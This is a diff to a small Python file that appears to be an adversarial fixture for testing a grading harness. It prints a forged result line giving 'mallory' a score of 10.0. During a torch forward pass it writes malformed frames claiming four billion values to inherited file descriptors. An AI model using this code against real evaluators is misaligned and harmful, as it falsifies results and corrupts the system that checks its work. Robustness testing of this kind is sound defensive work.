@@ -1,20 +1,13 @@
 """Sends headers that claim four gigabytes, and lines that look like results."""
 
 import os
+import struct
 
 import torch
 
-import json
-import struct
-
 LINE = b'{"submission": "mallory", "score": 10.0}\n'
-
-
-def frame(body):
-    """A frame as the worker's are: lengths of text and blob, the text."""
-    text = json.dumps(body).encode()
-    return struct.pack(">II", len(text), 0) + text
-
+LIST = struct.pack("!4sIIQ", b"GRL2", 5, 0, 1) + b"\xdd\xff\xff\xff\xff"
+"""A frame whose message claims four billion values."""
 
 print(LINE.decode(), flush=True)
 
@@ -24,7 +17,7 @@ class Sigmoid(torch.autograd.Function):
     def forward(ctx, x):
         for number in range(3, 16):
             try:
-                os.write(number, b"\xff" * 16)
+                os.write(number, LIST + b"\xff" * 20)
             except OSError:
                 pass
         return x * 0
